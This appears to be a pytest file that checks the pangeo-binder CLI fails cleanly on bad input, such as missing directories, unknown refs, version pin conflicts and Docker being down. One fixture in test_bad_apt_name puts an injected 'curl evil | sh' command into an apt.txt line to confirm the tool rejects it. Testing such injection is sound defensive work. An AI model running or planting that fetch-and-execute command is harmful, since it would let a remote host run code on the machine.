"""Bad input through the real CLI: one clear line on stderr, a non-zero exit, no traceback,
nothing left behind. None of these reach Docker."""

import json

import pytest
from conftest import git_repo, run_cli, write_tree

from pangeo_binder.lock import load_base_lock


def build_fails(tmp_path, *args, env=None):
    scratch = tmp_path / "tmpdir"
    scratch.mkdir(exist_ok=True)
    result = run_cli("build", *args, env={"TMPDIR": str(scratch), **(env or {})})
    assert result.returncode == 1, result
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith("pangeo-binder: error: ")
    assert list(scratch.iterdir()) == []  # no temp dir left behind
    return lines[-1]


def test_missing_directory(tmp_path):
    assert "no such directory" in build_fails(tmp_path, str(tmp_path / "nope"))


def test_malformed_shorthand(tmp_path):
    assert "expected gh:org/repo[@ref]" in build_fails(tmp_path, "gh:just-an-org")


def test_unknown_ref(tmp_path):
    remote = git_repo(tmp_path / "remote", {"a.ipynb": "{}"})
    line = build_fails(tmp_path, remote.as_uri(), "--ref", "no-such-branch")
    assert "ref 'no-such-branch' not found" in line


def test_unreachable_repository(tmp_path):
    line = build_fails(tmp_path, (tmp_path / "gone").as_uri())
    assert "cannot read" in line


def test_bad_apt_name(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/apt.txt": "nco\nnco && curl evil | sh\n"})
    assert "binder/apt.txt line 2" in build_fails(tmp_path, str(repo))


def test_conda_environment_is_refused(tmp_path):
    repo = write_tree(tmp_path / "repo", {"environment.yml": "dependencies: [xarray]\n"})
    assert "conda environments (environment.yml) are not supported yet" in build_fails(
        tmp_path, str(repo))


def test_base_pin_conflict_names_the_package_and_both_versions(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/requirements.txt": "dask==2022.1.0\n"})
    line = build_fails(tmp_path, str(repo))
    assert "dask==2022.1.0" in line and f"dask=={load_base_lock().pins['dask']}" in line


def test_docker_not_running(tmp_path):
    repo = write_tree(tmp_path / "repo", {"a.ipynb": "{}"})
    line = build_fails(tmp_path, str(repo),
                       env={"DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock"})
    assert "Docker is not running" in line


def test_json_logs_end_in_a_failed_phase(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/runtime.txt": "python-2.7\n"})
    result = run_cli("build", "--json-logs", str(repo))
    assert result.returncode == 1
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert events[0]["phase"] == "fetching"
    assert events[-1]["phase"] == "failed"
    assert "python-2.7" in events[-1]["message"]
    assert all(set(e) == {"phase", "message"} for e in events)
    assert result.stderr.count("\n") == 1


@pytest.mark.parametrize("args", [["build"], ["build", "x", "--no-such-flag"], ["nope"]])
def test_usage_errors_exit_2(args):
    result = run_cli(*args)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
